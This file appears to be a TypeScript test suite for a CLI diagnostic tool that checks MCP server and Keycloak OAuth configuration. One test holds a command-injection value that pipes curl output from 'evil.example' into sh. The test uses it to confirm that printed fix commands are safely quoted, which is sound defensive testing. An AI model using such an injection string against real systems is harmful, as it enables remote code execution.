import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type TestContext, test } from 'node:test';
import { type McpState, withDocuments } from '../../packages/cli/src/admin/mcp/current.ts';
import { MCP_CLIENT, toScopeMappers, toServerClient } from '../../packages/cli/src/admin/mcp/goal.ts';
import { runChecks } from '../../packages/cli/src/doctor/check.ts';
import { KEYCLOAK_CHECKS, SERVER_CHECKS } from '../../packages/cli/src/doctor/checks/mcp.ts';
import type { DoctorContext } from '../../packages/cli/src/doctor/context.ts';
import {
  createMcpEvidence,
  type McpAdminView,
  type McpEvidence,
} from '../../packages/cli/src/doctor/evidence/mcp.ts';

interface Said {
  status?: number;
  challenge?: string;
  resource?: object;
  provider?: object | null;
}

/** A server and its provider, which say what they are told to. */
async function startServer(t: TestContext, said: (url: string) => Said): Promise<McpEvidence> {
  const server = createServer((request, response) => {
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const { status, challenge, resource, provider } = said(base);
    const json = (body: object | null | undefined) =>
      response.writeHead(body ? 200 : 404).end(JSON.stringify(body ?? {}));
    if (request.url === '/metadata') json(resource);
    else if (request.url === '/.well-known/oauth-authorization-server/realms/main') json(provider);
    else response.writeHead(status ?? 401, { 'www-authenticate': challenge ?? '' }).end();
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.after(() => server.close());
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/mcp`;
  return createMcpEvidence(url);
}

const good = (base: string): Said => ({
  challenge: `Bearer scope="mcp:tools", resource_metadata="${base}/metadata"`,
  resource: {
    resource: `${base}/mcp`,
    authorization_servers: [`${base}/realms/main`],
    scopes_supported: ['mcp:tools'],
  },
  provider: { issuer: `${base}/realms/main` },
});

async function troublesOf(mcp: McpEvidence, checks = SERVER_CHECKS): Promise<string[]> {
  const results = await runChecks(checks, { mcp, close: async () => {} } as unknown as DoctorContext);
  return results
    .filter(({ status }) => status === 'warn' || status === 'fail')
    .map(({ id, status, seen }) => `${status} ${id}: ${seen}`);
}

test('finds nothing where all is well', async (t) => {
  assert.deepEqual(await troublesOf(await startServer(t, good)), []);
});

for (const [what, change, trouble] of [
  ['is not guarded', () => ({ status: 200 }), 'fail mcp.challenge: HTTP 200 without a token'],
  [
    'does not say where its metadata is',
    () => ({ challenge: 'Bearer' }),
    'fail mcp.challenge: 401 with Bearer',
  ],
  ['has no metadata', () => ({ resource: undefined }), /^fail mcp\.metadata: http.*\/metadata is not there$/],
  [
    'has metadata of another URL',
    (base) => ({ resource: { ...good(base).resource, resource: `${base}/` } }),
    /^fail mcp\.metadata: resource is http:\/\/127\.0\.0\.1:\d+\/$/,
  ],
  [
    'asks clients for openid',
    (base) => ({ resource: { ...good(base).resource, scopes_supported: ['openid'] } }),
    'fail mcp.metadata: names the scope openid',
  ],
  [
    'names no scope',
    (base) => ({
      challenge: `Bearer resource_metadata="${base}/metadata"`,
      resource: { ...good(base).resource, scopes_supported: undefined },
    }),
    'fail mcp.scopes: names no scope',
  ],
  [
    'asks for a scope later',
    (base) => ({ resource: { ...good(base).resource, scopes_supported: ['mcp:tools', 'mcp:write'] } }),
    'warn mcp.scopes: mcp:write only when a tool needs it',
  ],
  ['has a provider that is not found', () => ({ provider: null }), /^fail mcp\.provider: no metadata of /],
  [
    'has a provider with another issuer',
    () => ({ provider: { issuer: 'https://sso' } }),
    'fail mcp.provider: issuer is https://sso',
  ],
] as [string, (base: string) => Said, string | RegExp][]) {
  test(`says so where a server ${what}`, async (t) => {
    const [first, ...more] = await troublesOf(
      await startServer(t, (base) => ({ ...good(base), ...change(base) })),
    );
    if (typeof trouble === 'string') assert.equal(first, trouble);
    else assert.match(first ?? '', trouble);
    assert.deepEqual(more, []);
  });
}

/** What an admin sees where all is well. */
function seeWell(): McpAdminView {
  const state: McpState = {
    server: { ...toServerClient(GOAL) },
    program: { ...MCP_CLIENT },
    programIsFor: [],
    scopes: [{ name: 'mcp:tools', protocolMappers: toScopeMappers(GOAL).map((one) => ({ ...one })) }],
    offered: ['mcp:tools'],
    byDefault: [],
    trustedHosts: { config: { 'trusted-hosts': ['127.0.0.1'] } },
    webOrigins: { config: { 'web-origins': ['http://localhost:6274'] } },
    documents: { isOffered: false, profiles: [], policies: [] },
  };
  return { state, givesOffline: true };
}

const GOAL = {
  ...{ realm: 'main', url: 'https://tools.example.com/mcp', scopes: ['mcp:tools'] },
  ...{ registration: true, programs: [], documents: [] },
};

const resultsOf = (view: McpAdminView) => {
  const mcp = { url: GOAL.url, scopes: async () => GOAL.scopes, admin: async () => view };
  const checks = KEYCLOAK_CHECKS.map((one) => ({ ...one, needs: [] }));
  return runChecks(checks, { mcp, close: async () => {} } as unknown as DoctorContext);
};

const troublesAt = async (
  change: (state: McpState) => Partial<McpState>,
  more: Partial<McpAdminView> = {},
) => {
  const { state, ...view } = seeWell();
  const results = await resultsOf({ ...view, ...more, state: { ...state, ...change(state) } });
  return results
    .filter(({ status }) => status !== 'ok')
    .map(({ id, status, seen, cause }) => `${status} ${id}: ${seen} (${cause})`);
};

test('an admin sees nothing where all is well', async () => {
  assert.deepEqual(await troublesAt(() => ({})), []);
});

test('a scope that a server chose is quoted in the command that is printed to be copied', async () => {
  const evil = 'x;curl$IFS"evil.example"|sh\'';
  const mcp = { url: GOAL.url, scopes: async () => [evil], admin: async () => seeWell() };
  const checks = KEYCLOAK_CHECKS.filter(({ id }) => id === 'mcp.audience').map((one) => ({
    ...one,
    needs: [],
  }));
  const [found] = await runChecks(checks, { mcp, close: async () => {} } as unknown as DoctorContext);
  const words = spawnSync('sh', [
    '-c',
    `set -- ${found?.fix.replace('keycloak-guard', '')}; printf '%s\\n' "$@"`,
  ]);
  assert.equal(words.stdout.toString(), `setup\nmcp\n${GOAL.url}\n--scope\n${evil}\n`, found?.fix);
});

test('a scope that is for a second server is a fault', async () => {
  const other = { ...GOAL, url: 'https://other.example/mcp' };
  const scopes = [
    {
      name: 'mcp:tools',
      protocolMappers: [GOAL, other].flatMap((goal) => toScopeMappers(goal).map((one) => ({ ...one }))),
    },
  ];
  const [found, ...more] = await troublesAt(() => ({ scopes }));
  assert.match(
    found ?? '',
    /^fail mcp\.audience: the scope mcp:tools is for https:\/\/other\.example\/mcp, too/,
  );
  assert.deepEqual(more, []);
});

const mappersBut = (name: string) => (state: McpState) => ({
  scopes: state.scopes.map((one) => ({
    ...one,
    protocolMappers: (one.protocolMappers ?? []).filter((mapper) => !mapper.name?.startsWith(name)),
  })),
});

for (const [what, change, trouble, more] of [
  [
    'nobody may introspect',
    () => ({ server: undefined }),
    /^fail mcp\.client: no client https:.*\(.*active: false\)$/,
  ],
  [
    'a public client may not introspect',
    ({ server }) => ({ server: { ...server, publicClient: true } }),
    /^fail mcp\.client: it is public/,
  ],
  [
    'the server is no resource',
    ({ server }) => ({ server: { ...server, attributes: {} } }),
    /^warn mcp\.client: has no resource_url \(.*resource-indicators.*invalid_target\)$/,
  ],
  [
    'a scope is not there',
    () => ({ scopes: [] }),
    /^fail mcp\.audience: no client scope mcp:tools \(Keycloak answers invalid_scope\)$/,
  ],
  [
    'tokens have no audience',
    mappersBut('audience'),
    /^fail mcp\.audience: no scope has an audience mapper .*\(Tokens have no aud/,
  ],
  ['tokens have no name', mappersBut('username'), /^warn mcp\.username: .*preferred_username\)$/],
  [
    'clients may not register with the scope',
    () => ({ offered: [] }),
    /^warn mcp\.registration: mcp:tools is not optional.*403 "Allowed Client Scopes"\)$/,
  ],
  [
    'clients may register from nowhere',
    () => ({ trustedHosts: { config: {} } }),
    /^warn mcp\.registration: no host is trusted.*403 "Trusted Hosts"; pages get "Invalid origin" too\)$/,
  ],
  [
    'users get no offline tokens',
    () => ({}),
    /^warn mcp\.offline: .*400 "Offline tokens not allowed"\)$/,
    { givesOffline: false },
  ],
  [
    'documents are offered, and no policy takes them',
    () => ({ documents: { isOffered: true, profiles: [], policies: [] } }),
    /^fail mcp\.metadata-documents: offered, .*"Client not found"\)$/,
  ],
] as [string, (state: McpState) => Partial<McpState>, RegExp, Partial<McpAdminView>?][]) {
  test(`an admin is told where ${what}`, async () => {
    const [first, ...others] = await troublesAt(change, more);
    assert.match(first ?? '', trouble);
    // Without its scopes there is nobody who could have the mappers.
    assert.ok(
      others.every((one) => one.startsWith('warn mcp.username')),
      others.join(),
    );
  });
}

test('an admin is told that pages may not register, which is no trouble of other programs', async () => {
  const { state, ...view } = seeWell();
  const seenAt = async (origins: string[]) =>
    (
      await resultsOf({
        ...view,
        state: { ...state, webOrigins: { config: { 'web-origins': origins } } },
      })
    ).find(({ id }) => id === 'mcp.registration');
  assert.match((await seenAt([]))?.seen ?? '', /pages get "Invalid origin" \(Clients → Client registration/);
  assert.match((await seenAt(['https://a.example']))?.seen ?? '', /pages of https:\/\/a\.example;/);
});

test('documents of clients are no trouble where a policy takes them', async () => {
  const documents = { isOffered: true, profiles: [], policies: [] };
  const taken = withDocuments(documents, { name: 'own', domains: ['example.com'] });
  assert.deepEqual(await troublesAt(() => ({ documents: { ...documents, ...taken } })), []);
  const policies = taken.policies.map((one) => ({ ...one, enabled: false }));
  assert.equal((await troublesAt(() => ({ documents: { ...documents, ...taken, policies } }))).length, 1);
});

test('of scopes that are none, how many they are is told, and the first', async (t) => {
  const server = await startServer(t, (base) => {
    const { resource, ...rest } = good(base);
    return { ...rest, resource: { ...resource, scopes_supported: ['mcp:tools', 'a b', 'c"d'] } };
  });
  const results = await runChecks(SERVER_CHECKS, {
    mcp: server,
    close: async () => {},
  } as unknown as DoctorContext);
  const { seen, cause } = results.find(({ id }) => id === 'mcp.scopes') as { seen?: string; cause?: string };
  assert.equal(seen, 'names 2 that are no scopes');
  assert.equal(cause, 'A scope has no spaces, quotes or backslashes: "a b"');
});
